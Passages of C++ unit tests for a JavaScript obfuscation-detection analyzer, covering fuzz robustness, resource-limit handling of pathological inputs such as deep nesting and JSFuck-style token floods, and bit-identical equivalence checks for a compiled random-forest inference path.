  budget.charge_tokens();
  try {
    budget.charge_tokens();
    FAIL() << "expected BudgetExceeded";
  } catch (const BudgetExceeded& error) {
    const std::string text = error.trip().to_string();
    EXPECT_NE(text.find("tokens"), std::string::npos);
    EXPECT_NE(text.find("lex"), std::string::npos);
    EXPECT_NE(text.find('2'), std::string::npos);
    EXPECT_NE(text.find('3'), std::string::npos);
  }
}

TEST(Budget, ResourceKindNames) {
  EXPECT_EQ(to_string(ResourceKind::kSourceBytes), "source_bytes");
  EXPECT_EQ(to_string(ResourceKind::kTokens), "tokens");
  EXPECT_EQ(to_string(ResourceKind::kAstNodes), "ast_nodes");
  EXPECT_EQ(to_string(ResourceKind::kAstDepth), "ast_depth");
  EXPECT_EQ(to_string(ResourceKind::kDataflowEdges), "dataflow_edges");
  EXPECT_EQ(to_string(ResourceKind::kDeadline), "deadline");
}

}  // namespace
}  // namespace jst
