// Robustness sweeps: randomly mutated / truncated / garbage inputs must
// never crash the lexer, parser, or analysis pipeline — every failure is
// a clean ParseError. This is the property a static analyzer of
// adversarial JavaScript must hold unconditionally.
//
// The HostileInputs suite below extends the property to resource
// governance (DESIGN.md §10): crafted pathological scripts — deep
// nesting, megabyte literals, JSFuck-style token floods — must trip the
// matching ResourceLimits ceiling into its dedicated ScriptStatus with a
// populated diagnostic, never an exception out of the service, and the
// governed batch must stay bit-identical across thread counts.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "analysis/service.h"
#include "corpus/generator.h"
#include "corpus/snippets.h"
#include "features/feature_extractor.h"
#include "parser/parser.h"
#include "support/rng.h"

namespace jst {
namespace {

// Parses and, when parseable, pushes the result through the full feature
// pipeline. Returns true if it parsed. Any exception other than
// ParseError fails the test.
bool survives(const std::string& source) {
  try {
    features::FeatureConfig config;
    config.ngram.hash_dim = 32;
    features::extract_from_source(source, config);
    return true;
  } catch (const ParseError&) {
    return false;  // clean rejection
  }
}

class MutationFuzz : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(MutationFuzz, ByteMutationsNeverCrash) {
  Rng rng(GetParam());
  corpus::ProgramGenerator generator(GetParam() * 31 + 1);
  corpus::GeneratorOptions options;
  options.min_bytes = 600;
  std::string source = generator.generate(options);

  for (int round = 0; round < 60; ++round) {
    std::string mutated = source;
    const std::size_t edits = 1 + rng.index(8);
    for (std::size_t e = 0; e < edits && !mutated.empty(); ++e) {
      const std::size_t position = rng.index(mutated.size());
      switch (rng.index(4)) {
        case 0:  // flip to random printable
          mutated[position] =
              static_cast<char>(32 + rng.index(95));
          break;
        case 1:  // delete
          mutated.erase(position, 1 + rng.index(4));
          break;
        case 2:  // duplicate a slice
          mutated.insert(position,
                         mutated.substr(position, 1 + rng.index(12)));
          break;
        default:  // insert structural character
          mutated.insert(position, 1, "{}()[];'\"`\\$"[rng.index(12)]);
      }
    }
    survives(mutated);  // must not crash either way
  }
  SUCCEED();
}

TEST_P(MutationFuzz, TruncationsNeverCrash) {
  corpus::ProgramGenerator generator(GetParam() * 17 + 3);
  corpus::GeneratorOptions options;
  options.min_bytes = 800;
  const std::string source = generator.generate(options);
  for (std::size_t cut = 1; cut < source.size(); cut += 37) {
    survives(source.substr(0, cut));
  }
  SUCCEED();
}

INSTANTIATE_TEST_SUITE_P(Seeds, MutationFuzz,
                         ::testing::Values(1u, 2u, 3u, 4u, 5u, 6u, 7u, 8u));

TEST(Fuzz, PureGarbage) {
  Rng rng(99);
  for (int round = 0; round < 200; ++round) {
    std::string garbage;
    const std::size_t size = 1 + rng.index(300);
    for (std::size_t i = 0; i < size; ++i) {
      garbage.push_back(static_cast<char>(rng.index(256)));
    }
    survives(garbage);
  }
  SUCCEED();
}

TEST(Fuzz, PathologicalRepetition) {
  // Deep/long constructs that stress recursion and buffers.
  survives(std::string(5000, '('));
  survives(std::string(5000, '['));
  survives(std::string(5000, '{'));
  survives("var x = " + std::string(2000, '!') + "1;");
  survives("a" + std::string(3000, '.') + "b;");
  std::string chain = "x = 1";
  for (int i = 0; i < 4000; ++i) chain += " + 1";
  EXPECT_TRUE(survives(chain + ";"));
  SUCCEED();
}

TEST(Fuzz, UnterminatedConstructsRejectCleanly) {
  EXPECT_FALSE(survives("var s = \"unterminated"));
  EXPECT_FALSE(survives("var t = `unterminated ${x"));
  EXPECT_FALSE(survives("/* comment never ends"));
  EXPECT_FALSE(survives("var r = /regex"));
  EXPECT_FALSE(survives("function f( {"));
}

// --- Resource-governed hostile inputs (DESIGN.md §10) -------------------

// Trained once for the whole suite; prediction quality is irrelevant
// here, only whether inference ran and that its output is deterministic.
const analysis::TransformationAnalyzer& fuzz_analyzer() {
  static const analysis::TransformationAnalyzer* kAnalyzer = [] {
    analysis::PipelineOptions options;
    options.training_regular_count = 40;
    options.per_technique_count = 8;
    options.seed = 20260806;
    options.detector.forest.tree_count = 12;
    options.detector.features.ngram.hash_dim = 64;
    auto* analyzer = new analysis::TransformationAnalyzer(options);
    analyzer->train();
    return analyzer;
  }();
  return *kAnalyzer;
}

// A syntactically valid expression nested `depth` parentheses deep.
std::string deeply_nested(std::size_t depth) {
  std::string source = "var x = ";
  source.append(depth, '(');
  source += "1";
  source.append(depth, ')');
  source += ";";
  return source;
}

// JSFuck-style: no alphanumerics, just a flood of punctuator tokens.
std::string jsfuck_blob(std::size_t terms) {
  std::string source = "x = []";
  for (std::size_t i = 0; i < terms; ++i) source += "+[]";
  source += ";";
  return source;
}

// One megabyte-scale string literal in an otherwise tiny script.
std::string megabyte_literal() {
  std::string source = "var s = \"";
  source.append(1024 * 1024, 'a');
  source += "\";";
  return source;
}

// Many flat statements: floods AST nodes without nesting.
std::string statement_flood(std::size_t statements) {
  std::string source;
  for (std::size_t i = 0; i < statements; ++i) {
    source += "var a" + std::to_string(i) + " = " + std::to_string(i) + ";";
  }
  return source;
}

// One definition with many uses: floods def-use data-flow edges.
std::string dataflow_flood(std::size_t uses) {
  std::string source = "var v = 1; var sink = 0;";
  for (std::size_t i = 0; i < uses; ++i) source += "sink = v + v;";
  return source;
}

// Request-path adapter for the single-script assertions below.
analysis::ScriptOutcome analyze_source(const analysis::AnalyzerService& service,
                                       std::string source,
                                       const ResourceLimits& limits = {}) {
  return service
      .analyze(analysis::AnalyzeRequest::for_source(std::move(source)), limits)
      .outcome;
}

TEST(HostileInputs, SourceBytesCeilingTripsOnMegabyteLiteral) {
  analysis::AnalyzerService service(fuzz_analyzer());
  ResourceLimits limits;
  limits.max_source_bytes = 64 * 1024;
  const analysis::ScriptOutcome outcome =
      analyze_source(service, megabyte_literal(), limits);
  EXPECT_EQ(outcome.status, analysis::ScriptStatus::kIneligibleSize);
  ASSERT_TRUE(outcome.budget.has_value());
  EXPECT_EQ(outcome.budget->kind, ResourceKind::kSourceBytes);
  EXPECT_EQ(outcome.budget->limit, 64.0 * 1024.0);
  EXPECT_GT(outcome.budget->observed, 1024.0 * 1024.0);
  EXPECT_FALSE(outcome.has_predictions());
  EXPECT_FALSE(outcome.error_message.empty());
}

TEST(HostileInputs, TokenCeilingTripsOnJsfuckBlob) {
  analysis::AnalyzerService service(fuzz_analyzer());
  ResourceLimits limits;
  limits.max_tokens = 1000;
  const analysis::ScriptOutcome outcome =
      analyze_source(service, jsfuck_blob(2000), limits);
  EXPECT_EQ(outcome.status, analysis::ScriptStatus::kBudgetTokens);
  ASSERT_TRUE(outcome.budget.has_value());
  EXPECT_EQ(outcome.budget->kind, ResourceKind::kTokens);
  EXPECT_EQ(outcome.budget->limit, 1000.0);
  EXPECT_EQ(outcome.budget->observed, 1001.0);  // trips exactly past limit
  EXPECT_EQ(outcome.budget->stage, "lex");
  EXPECT_FALSE(outcome.has_predictions());
}

TEST(HostileInputs, AstNodeCeilingTripsOnStatementFlood) {
  analysis::AnalyzerService service(fuzz_analyzer());
  ResourceLimits limits;
  limits.max_ast_nodes = 200;
  const analysis::ScriptOutcome outcome =
      analyze_source(service, statement_flood(2000), limits);
  EXPECT_EQ(outcome.status, analysis::ScriptStatus::kBudgetAstNodes);
  ASSERT_TRUE(outcome.budget.has_value());
  EXPECT_EQ(outcome.budget->kind, ResourceKind::kAstNodes);
  EXPECT_EQ(outcome.budget->limit, 200.0);
  EXPECT_EQ(outcome.budget->observed, 201.0);
  EXPECT_FALSE(outcome.has_predictions());
}

TEST(HostileInputs, DepthCeilingTripsOnDeepNesting) {
  analysis::AnalyzerService service(fuzz_analyzer());
  ResourceLimits limits;
  limits.max_ast_depth = 32;
  const analysis::ScriptOutcome outcome =
      analyze_source(service, deeply_nested(200), limits);
  EXPECT_EQ(outcome.status, analysis::ScriptStatus::kBudgetDepth);
  ASSERT_TRUE(outcome.budget.has_value());
  EXPECT_EQ(outcome.budget->kind, ResourceKind::kAstDepth);
  EXPECT_EQ(outcome.budget->limit, 32.0);
  EXPECT_EQ(outcome.budget->observed, 33.0);
  EXPECT_FALSE(outcome.has_predictions());
}

TEST(HostileInputs, BudgetDepthTripsBeforeParserHardGuard) {
  // Nesting beyond the parser's own recursion ceiling: without limits the
  // hard guard raises ParseError; with a depth budget the structured
  // status wins, so governed services never see the raw exception text.
  analysis::AnalyzerService service(fuzz_analyzer());
  const analysis::ScriptOutcome ungoverned =
      analyze_source(service, deeply_nested(5000));
  EXPECT_EQ(ungoverned.status, analysis::ScriptStatus::kParseError);
  ResourceLimits limits = ResourceLimits::production();
  const analysis::ScriptOutcome governed =
      analyze_source(service, deeply_nested(5000), limits);
  EXPECT_EQ(governed.status, analysis::ScriptStatus::kBudgetDepth);
  ASSERT_TRUE(governed.budget.has_value());
  EXPECT_EQ(governed.budget->kind, ResourceKind::kAstDepth);
}

TEST(HostileInputs, DataflowCeilingDegradesButStillPredicts) {
  analysis::AnalyzerService service(fuzz_analyzer());
  ResourceLimits limits;
  limits.max_dataflow_edges = 8;
  const analysis::ScriptOutcome outcome =
      analyze_source(service, dataflow_flood(500), limits);
  EXPECT_EQ(outcome.status, analysis::ScriptStatus::kBudgetDataflow);
  EXPECT_TRUE(outcome.degraded());
  ASSERT_TRUE(outcome.budget.has_value());
  EXPECT_EQ(outcome.budget->kind, ResourceKind::kDataflowEdges);
  EXPECT_EQ(outcome.budget->limit, 8.0);
  EXPECT_GT(outcome.budget->observed, 8.0);
  ASSERT_EQ(outcome.skipped_stages.size(), 1u);
  EXPECT_EQ(outcome.skipped_stages[0], "dataflow");
  // Degradation, not failure: edges were truncated but features and
  // inference still ran on the intact AST/CFG.
  EXPECT_TRUE(outcome.has_predictions());
  EXPECT_FALSE(outcome.report.technique_confidence.empty());
}

TEST(HostileInputs, DeadlineTripsHardInLexOnHugeScript) {
  // An already-expired deadline plus a script long enough to cross the
  // lexer's poll stride: the trip lands deterministically in the lexer.
  analysis::AnalyzerService service(fuzz_analyzer());
  ResourceLimits limits;
  limits.deadline_ms = 1e-9;
  const std::string source = jsfuck_blob(10000);  // ≫ kDeadlinePollStride
  const analysis::ScriptOutcome outcome = analyze_source(service, source, limits);
  EXPECT_EQ(outcome.status, analysis::ScriptStatus::kDeadlineExceeded);
  ASSERT_TRUE(outcome.budget.has_value());
  EXPECT_EQ(outcome.budget->kind, ResourceKind::kDeadline);
  EXPECT_EQ(outcome.budget->stage, "lex");
  EXPECT_FALSE(outcome.has_predictions());
}

TEST(HostileInputs, DeadlineDegradesSmallScriptAtSoftCheckpoint) {
  // Small scripts never reach a poll stride mid-stage, so an expired
  // deadline is first noticed at the post-static-analysis checkpoint: the
  // outcome degrades to hand-picked features with n-grams and inference
  // skipped — deterministically, regardless of machine speed.
  analysis::AnalyzerService service(fuzz_analyzer());
  ResourceLimits limits;
  limits.deadline_ms = 1e-9;
  const analysis::ScriptOutcome outcome =
      analyze_source(service, "var x = 1; function f(a) { return a + x; } f(2);",
                          limits);
  EXPECT_EQ(outcome.status, analysis::ScriptStatus::kDegraded);
  EXPECT_TRUE(outcome.degraded());
  ASSERT_TRUE(outcome.budget.has_value());
  EXPECT_EQ(outcome.budget->kind, ResourceKind::kDeadline);
  EXPECT_FALSE(outcome.has_predictions());
  // The degraded outcome still carries the hand-picked feature block.
  features::FeatureConfig handpicked_only;
  handpicked_only.use_ngrams = false;
  EXPECT_EQ(outcome.partial_features.size(),
            features::feature_dimension(handpicked_only));
  const std::vector<std::string> expected_skipped = {"ngrams", "inference"};
  EXPECT_EQ(outcome.skipped_stages, expected_skipped);
}

TEST(HostileInputs, BudgetTrippedScriptsNeverThrowOutOfBatch) {
  analysis::AnalyzerService service(fuzz_analyzer());
  const std::vector<std::string> sources = {
      deeply_nested(5000),    // depth bomb (10k tokens: below the ceiling)
      megabyte_literal(),     // source-bytes bomb
      jsfuck_blob(10000),     // 30k tokens: trips the token ceiling in lex
      statement_flood(3000),  // ~15k tokens but ~12k AST nodes
      dataflow_flood(500),    // ~3k tokens, ~3k nodes, 1000 uses of `v`
      "var = ;;; {{{",        // plain syntax error
      std::string(5000, '('),  // second depth bomb
  };
  // The ceilings are staggered so each bomb reaches its intended stage:
  // lexing precedes parsing, so the token ceiling must clear every script
  // except the JSFuck blob.
  analysis::BatchOptions options;
  options.limits = ResourceLimits::production();
  options.limits.max_source_bytes = 256 * 1024;
  options.limits.max_tokens = 20000;
  options.limits.max_ast_nodes = 5000;
  options.limits.max_dataflow_edges = 64;
  const analysis::BatchResponse result = service.analyze_batch(
      analysis::make_source_requests(sources), options);  // must not throw
  ASSERT_EQ(result.responses.size(), sources.size());
  EXPECT_EQ(result.stats.budget_depth, 2u);     // both nesting bombs
  EXPECT_EQ(result.stats.ineligible_size, 1u);  // megabyte literal
  EXPECT_EQ(result.stats.budget_tokens, 1u);
  EXPECT_EQ(result.stats.budget_ast_nodes, 1u);
  EXPECT_EQ(result.stats.budget_dataflow, 1u);
  EXPECT_EQ(result.stats.parse_errors, 1u);  // the syntax-error script
  EXPECT_EQ(result.stats.budget_tripped(), 5u);
  for (const analysis::AnalyzeResponse& response : result.responses) {
    const analysis::ScriptOutcome& outcome = response.outcome;
    if (outcome.budget.has_value()) {
      EXPECT_FALSE(outcome.error_message.empty());
      EXPECT_GT(outcome.budget->limit, 0.0);
    }
  }
}

TEST(HostileInputs, GovernedBatchBitIdenticalAcrossThreadCounts) {
  // Count ceilings are charged in deterministic program order, so the
  // governed batch must be positionally aligned and bit-identical for any
  // parallelism (deadline excluded here: it is the one time-dependent
  // ceiling, covered by the status-determinism tests above).
  analysis::AnalyzerService service(fuzz_analyzer());
  corpus::ProgramGenerator generator(4242);
  corpus::GeneratorOptions generator_options;
  generator_options.min_bytes = 700;
  std::vector<std::string> sources;
  for (int i = 0; i < 12; ++i) sources.push_back(generator.generate(generator_options));
  sources.push_back(deeply_nested(5000));
  sources.push_back(jsfuck_blob(10000));
  sources.push_back(statement_flood(3000));
  sources.push_back(dataflow_flood(500));

  for (const bool governed : {false, true}) {
    analysis::BatchOptions serial;
    serial.threads = 1;
    analysis::BatchOptions wide;
    wide.threads = 4;
    if (governed) {
      ResourceLimits limits = ResourceLimits::production();
      limits.deadline_ms = 0.0;  // disable the only time-dependent ceiling
      limits.max_tokens = 20000;
      limits.max_ast_nodes = 5000;
      limits.max_dataflow_edges = 64;
      serial.limits = limits;
      wide.limits = limits;
    }
    const std::vector<analysis::AnalyzeRequest> requests =
        analysis::make_source_requests(sources);
    const analysis::BatchResponse a = service.analyze_batch(requests, serial);
    const analysis::BatchResponse b = service.analyze_batch(requests, wide);
    ASSERT_EQ(a.responses.size(), b.responses.size());
    for (std::size_t i = 0; i < a.responses.size(); ++i) {
      const analysis::ScriptOutcome& x = a.responses[i].outcome;
      const analysis::ScriptOutcome& y = b.responses[i].outcome;
      EXPECT_EQ(x.status, y.status) << "script " << i;
      EXPECT_EQ(x.error_message, y.error_message) << "script " << i;
      EXPECT_EQ(x.budget.has_value(), y.budget.has_value()) << "script " << i;
      if (x.budget.has_value() && y.budget.has_value()) {
        EXPECT_EQ(x.budget->kind, y.budget->kind);
        EXPECT_EQ(x.budget->limit, y.budget->limit);
        EXPECT_EQ(x.budget->observed, y.budget->observed);
        EXPECT_EQ(x.budget->stage, y.budget->stage);
      }
      EXPECT_EQ(x.skipped_stages, y.skipped_stages);
      EXPECT_EQ(x.partial_features, y.partial_features);
      EXPECT_EQ(x.report.technique_confidence, y.report.technique_confidence);
      EXPECT_DOUBLE_EQ(x.report.level1.p_regular, y.report.level1.p_regular);
      EXPECT_DOUBLE_EQ(x.report.level1.p_minified, y.report.level1.p_minified);
      EXPECT_DOUBLE_EQ(x.report.level1.p_obfuscated,
                       y.report.level1.p_obfuscated);
    }
    EXPECT_EQ(a.stats.budget_tripped(), b.stats.budget_tripped());
  }
}

TEST(HostileInputs, SeedCorpusUnaffectedByGovernance) {
  // Regression: ordinary scripts must sail through production limits with
  // outcomes identical to the ungoverned run, and disabled limits must
  // never fire at all.
  analysis::AnalyzerService service(fuzz_analyzer());
  corpus::ProgramGenerator generator(1717);
  corpus::GeneratorOptions generator_options;
  generator_options.min_bytes = 600;
  std::vector<std::string> sources;
  for (int i = 0; i < 16; ++i) {
    sources.push_back(generator.generate(generator_options));
  }

  const std::vector<analysis::AnalyzeRequest> requests =
      analysis::make_source_requests(sources);
  const analysis::BatchResponse ungoverned = service.analyze_batch(requests);
  analysis::BatchOptions production;
  production.limits = ResourceLimits::production();
  const analysis::BatchResponse governed =
      service.analyze_batch(requests, production);

  EXPECT_EQ(ungoverned.stats.budget_tripped(), 0u);
  EXPECT_EQ(governed.stats.budget_tripped(), 0u);
  ASSERT_EQ(ungoverned.responses.size(), governed.responses.size());
  for (std::size_t i = 0; i < governed.responses.size(); ++i) {
    const analysis::ScriptOutcome& gov = governed.responses[i].outcome;
    const analysis::ScriptOutcome& raw = ungoverned.responses[i].outcome;
    EXPECT_EQ(gov.status, raw.status);
    EXPECT_FALSE(gov.budget.has_value());
    EXPECT_TRUE(gov.skipped_stages.empty());
    EXPECT_EQ(gov.report.technique_confidence,
              raw.report.technique_confidence);
  }
}

TEST(HostileInputs, OutcomeJsonRoundTripsKeyFields) {
  analysis::AnalyzerService service(fuzz_analyzer());
  ResourceLimits limits;
  limits.max_tokens = 100;
  const analysis::ScriptOutcome tripped =
      analyze_source(service, jsfuck_blob(500), limits);
  const std::string json = tripped.to_json();
  EXPECT_NE(json.find("\"status\":\"budget_tokens\""), std::string::npos);
  EXPECT_NE(json.find("\"kind\":\"tokens\""), std::string::npos);
  EXPECT_NE(json.find("\"limit\":100"), std::string::npos);
  EXPECT_NE(json.find("\"report\":null"), std::string::npos);

  const analysis::ScriptOutcome clean =
      analyze_source(service, "var ok = function(a) { return a + 1; };");
  const std::string clean_json = clean.to_json();
  EXPECT_NE(clean_json.find("\"budget\":null"), std::string::npos);
  EXPECT_NE(clean_json.find("\"technique_confidence\""), std::string::npos);
}

TEST(Fuzz, SnippetCrossSplicing) {
  // Concatenate random halves of different snippets: usually invalid,
  // must always be handled cleanly.
  Rng rng(7);
  const auto snippets = corpus::seed_snippets();
  for (int round = 0; round < 60; ++round) {
    const std::string_view a = snippets[rng.index(snippets.size())];
    const std::string_view b = snippets[rng.index(snippets.size())];
    const std::string spliced =
        std::string(a.substr(0, rng.index(a.size()))) +
        std::string(b.substr(rng.index(b.size())));
    survives(spliced);
  }
  SUCCEED();
}

}  // namespace
}  // namespace jst
