// Equivalence suite for the compiled inference fast path and the fused
// feature extractor. "Equivalent" here means bit-identical: the compiled
// forest accumulates the same float leaf values into a double in the same
// order as the reference tree walk, and the fused extractor emits the
// same float vector as the legacy multi-walk — so every comparison below
// is exact (EXPECT_EQ), never approximate.
#include <gtest/gtest.h>

#include <cstddef>
#include <sstream>
#include <string>
#include <vector>

#include "analysis/dataset.h"
#include "analysis/detector.h"
#include "analysis/labels.h"
#include "analysis/pipeline.h"
#include "features/feature_extractor.h"
#include "ml/compiled_forest.h"
#include "ml/multilabel.h"
#include "ml/random_forest.h"
#include "obs/metrics.h"
#include "support/error.h"
#include "support/rng.h"
#include "transform/technique.h"

namespace jst {
namespace {

std::vector<std::vector<float>> random_rows(std::size_t count,
                                            std::size_t features, Rng& rng) {
  std::vector<std::vector<float>> rows(count);
  for (auto& row : rows) {
    row.resize(features);
    for (float& value : row) value = static_cast<float>(rng.uniform());
  }
  return rows;
}

std::vector<std::uint8_t> noisy_labels(
    const std::vector<std::vector<float>>& rows, Rng& rng) {
  std::vector<std::uint8_t> labels(rows.size());
  for (std::size_t i = 0; i < rows.size(); ++i) {
    bool positive = rows[i][0] + rows[i][1] > 1.0f;
    if (rng.bernoulli(0.1)) positive = !positive;
    labels[i] = positive ? 1 : 0;
  }
  return labels;
}

ml::RandomForest trained_forest(std::size_t tree_count, std::uint64_t seed,
                                std::vector<std::vector<float>>& rows_out) {
  Rng rng(seed);
  rows_out = random_rows(300, 5, rng);
  const std::vector<std::uint8_t> labels = noisy_labels(rows_out, rng);
  ml::RandomForest forest;
  ml::ForestParams params;
  params.tree_count = tree_count;
  forest.fit(ml::Matrix{&rows_out}, labels, params, rng);
  return forest;
}

ml::LabelMatrix correlated_labels(const std::vector<std::vector<float>>& rows) {
  ml::LabelMatrix labels;
  labels.reserve(rows.size());
  for (const auto& row : rows) {
    const std::uint8_t l0 = row[0] > 0.5f;
    const std::uint8_t l2 = row[1] > 0.5f;
    labels.push_back({l0, l0, l2});
  }
  return labels;
}

// --- CompiledForest vs RandomForest ---------------------------------------

TEST(CompiledForest, BitIdenticalToReferenceOnRandomRows) {
  std::vector<std::vector<float>> rows;
  // 20 trees spans multiple tree blocks (kTreeBlock = 8), exercising the
  // partial final block.
  const ml::RandomForest forest = trained_forest(20, 101, rows);
  const ml::CompiledForest compiled = ml::CompiledForest::compile(forest);
  EXPECT_EQ(compiled.tree_count(), forest.tree_count());
  EXPECT_EQ(compiled.feature_count(), forest.feature_count());

  Rng rng(102);
  const auto probes = random_rows(200, 5, rng);
  for (std::size_t i = 0; i < probes.size(); ++i) {
    EXPECT_EQ(compiled.predict_proba(probes[i]),
              forest.predict_proba(probes[i]))
        << "probe " << i;
  }
}

TEST(CompiledForest, PredictBatchBitIdenticalToPerRow) {
  std::vector<std::vector<float>> rows;
  const ml::RandomForest forest = trained_forest(20, 103, rows);
  const ml::CompiledForest compiled = ml::CompiledForest::compile(forest);

  Rng rng(104);
  const auto probes = random_rows(97, 5, rng);
  std::vector<double> batch(probes.size());
  compiled.predict_batch(ml::Matrix{&probes}, batch);
  for (std::size_t i = 0; i < probes.size(); ++i) {
    EXPECT_EQ(batch[i], compiled.predict_proba(probes[i])) << "row " << i;
    EXPECT_EQ(batch[i], forest.predict_proba(probes[i])) << "row " << i;
  }
}

TEST(CompiledForest, ErrorsOnUntrainedAndUncompiled) {
  EXPECT_THROW(ml::CompiledForest::compile(ml::RandomForest{}), ModelError);
  ml::CompiledForest not_compiled;
  EXPECT_FALSE(not_compiled.compiled());
  const std::vector<float> row = {0.5f};
  EXPECT_THROW(not_compiled.predict_proba(row), ModelError);
}

TEST(CompiledForest, BatchRejectsSizeMismatch) {
  std::vector<std::vector<float>> rows;
  const ml::RandomForest forest = trained_forest(4, 105, rows);
  const ml::CompiledForest compiled = ml::CompiledForest::compile(forest);
  Rng rng(106);
  const auto probes = random_rows(8, 5, rng);
  std::vector<double> wrong_size(probes.size() + 1);
  EXPECT_THROW(compiled.predict_batch(ml::Matrix{&probes}, wrong_size),
               ModelError);
}

// --- CompiledEnsemble vs MultiLabelClassifier -----------------------------

template <typename Classifier>
void expect_ensemble_matches(std::uint64_t seed) {
  Rng rng(seed);
  const auto rows = random_rows(300, 2, rng);
  const ml::LabelMatrix labels = correlated_labels(rows);
  Classifier classifier;
  ml::ForestParams params;
  params.tree_count = 8;
  classifier.fit(ml::Matrix{&rows}, labels, params, rng);

  const ml::CompiledEnsemble compiled =
      ml::CompiledEnsemble::compile(classifier);
  EXPECT_EQ(compiled.label_count(), classifier.label_count());
  EXPECT_EQ(compiled.chained(), classifier.chained());

  ml::PredictScratch scratch;
  const auto probes = random_rows(60, 2, rng);
  for (std::size_t i = 0; i < probes.size(); ++i) {
    const std::vector<double> reference = classifier.predict_proba(probes[i]);
    std::vector<double> fast;
    compiled.predict_proba(probes[i], scratch, fast);
    ASSERT_EQ(fast.size(), reference.size());
    for (std::size_t j = 0; j < fast.size(); ++j) {
      EXPECT_EQ(fast[j], reference[j]) << "probe " << i << " label " << j;
    }

    std::vector<std::size_t> picked;
    for (const double threshold : {0.1, 0.5, 0.9}) {
      compiled.predict_set(probes[i], threshold, scratch, picked);
      EXPECT_EQ(picked, classifier.predict_set(probes[i], threshold));
      for (const std::size_t k : {1u, 2u, 3u, 5u}) {
        compiled.predict_topk_thresholded(probes[i], k, threshold, scratch,
                                          picked);
        EXPECT_EQ(picked,
                  classifier.predict_topk_thresholded(probes[i], k, threshold));
      }
    }
    for (const std::size_t k : {1u, 2u, 3u, 5u}) {
      compiled.predict_topk(probes[i], k, scratch, picked);
      EXPECT_EQ(picked, classifier.predict_topk(probes[i], k));
    }
  }
}

TEST(CompiledEnsemble, BinaryRelevanceBitIdentical) {
  expect_ensemble_matches<ml::BinaryRelevance>(201);
}

TEST(CompiledEnsemble, ClassifierChainBitIdentical) {
  expect_ensemble_matches<ml::ClassifierChain>(202);
}

TEST(CompiledEnsemble, MatchesAfterSaveLoadInBothEncodings) {
  Rng rng(203);
  const auto rows = random_rows(250, 2, rng);
  const ml::LabelMatrix labels = correlated_labels(rows);
  ml::ClassifierChain original;
  ml::ForestParams params;
  params.tree_count = 6;
  original.fit(ml::Matrix{&rows}, labels, params, rng);

  const auto probes = random_rows(40, 2, rng);
  for (const ml::ModelEncoding encoding :
       {ml::ModelEncoding::kText, ml::ModelEncoding::kBinary}) {
    std::stringstream stream;
    original.save(stream, encoding);
    ml::ClassifierChain loaded;
    loaded.load(stream);
    const ml::CompiledEnsemble compiled =
        ml::CompiledEnsemble::compile(loaded);
    ml::PredictScratch scratch;
    std::vector<double> fast;
    for (const auto& probe : probes) {
      const std::vector<double> reference = original.predict_proba(probe);
      compiled.predict_proba(probe, scratch, fast);
      ASSERT_EQ(fast.size(), reference.size());
      for (std::size_t j = 0; j < fast.size(); ++j) {
        EXPECT_EQ(fast[j], reference[j]);
      }
    }
  }
}

// --- binary model encoding -------------------------------------------------

TEST(BinaryModelEncoding, ForestRoundTripsAndAutoDetects) {
  std::vector<std::vector<float>> rows;
  const ml::RandomForest forest = trained_forest(6, 301, rows);

  std::stringstream text_stream;
  forest.save(text_stream, ml::ModelEncoding::kText);
  std::stringstream binary_stream;
  forest.save(binary_stream, ml::ModelEncoding::kBinary);

  ml::RandomForest from_text;
  from_text.load(text_stream);
  ml::RandomForest from_binary;
  from_binary.load(binary_stream);
  EXPECT_EQ(from_binary.tree_count(), forest.tree_count());
  EXPECT_EQ(from_binary.feature_count(), forest.feature_count());

  Rng rng(302);
  const auto probes = random_rows(50, 5, rng);
  for (const auto& probe : probes) {
    const double reference = forest.predict_proba(probe);
    EXPECT_EQ(from_text.predict_proba(probe), reference);
    EXPECT_EQ(from_binary.predict_proba(probe), reference);
  }
}

TEST(BinaryModelEncoding, TruncatedBinaryStreamThrows) {
  std::vector<std::vector<float>> rows;
  const ml::RandomForest forest = trained_forest(4, 303, rows);
  std::ostringstream out;
  forest.save(out, ml::ModelEncoding::kBinary);
  const std::string bytes = out.str();
  for (const std::size_t keep :
       {bytes.size() / 2, bytes.size() - 1, std::size_t{24}}) {
    std::istringstream truncated(bytes.substr(0, keep));
    ml::RandomForest loaded;
    EXPECT_THROW(loaded.load(truncated), ModelError) << "keep=" << keep;
  }
}

TEST(BinaryModelEncoding, UnknownMagicThrows) {
  std::istringstream stream("jstraced-forest-v9 garbage");
  ml::RandomForest forest;
  try {
    forest.load(stream);
    FAIL() << "expected ModelError";
  } catch (const ModelError& error) {
    // The mismatch error must name the unrecognized magic.
    EXPECT_NE(std::string(error.what()).find("jstraced-forest-v9"),
              std::string::npos);
  }
}

// --- fused feature extraction ---------------------------------------------

std::vector<std::string> seed_corpus() {
  analysis::CorpusSpec spec;
  spec.regular_count = 16;
  spec.seed = 424242;
  std::vector<std::string> corpus = analysis::generate_regular_corpus(spec);
  // Transformed variants: every technique applied to the first sources, so
  // the fused walk sees obfuscator-shaped trees (big arrays, hex names,
  // switch dispatchers), not just regular code.
  Rng rng(99);
  std::size_t base = 0;
  for (const transform::Technique technique : transform::all_techniques()) {
    corpus.push_back(
        analysis::make_transformed_sample(corpus[base % 16], technique, rng)
            .source);
    ++base;
  }
  return corpus;
}

void expect_rows_equal(const std::vector<float>& reference,
                       const std::vector<float>& fused, std::size_t script) {
  ASSERT_EQ(fused.size(), reference.size()) << "script " << script;
  for (std::size_t i = 0; i < fused.size(); ++i) {
    ASSERT_EQ(fused[i], reference[i]) << "script " << script << " dim " << i;
  }
}

TEST(FusedExtraction, BitIdenticalToLegacyOnSeedCorpus) {
  const std::vector<std::string> corpus = seed_corpus();
  const features::FeatureConfig config;
  // ONE scratch across the whole corpus: equality on every script also
  // proves reuse leaks no state from previous scripts.
  features::ExtractScratch scratch;
  for (std::size_t i = 0; i < corpus.size(); ++i) {
    const ScriptAnalysis analysis =
        analyze_script(corpus[i], config.analysis);
    const std::vector<float> reference = features::extract(analysis, config);
    const std::vector<float>& fused =
        features::extract_into(analysis, config, scratch);
    expect_rows_equal(reference, fused, i);
  }
  EXPECT_EQ(scratch.uses, corpus.size());
  EXPECT_GT(scratch.capacity_bytes(), 0u);
}

TEST(FusedExtraction, SingleBlockConfigsMatchLegacy) {
  const std::vector<std::string> corpus = seed_corpus();
  features::ExtractScratch scratch;
  for (std::size_t variant = 0; variant < 2; ++variant) {
    features::FeatureConfig config;
    config.use_handpicked = variant == 0;
    config.use_ngrams = variant == 1;
    for (std::size_t i = 0; i < 4; ++i) {
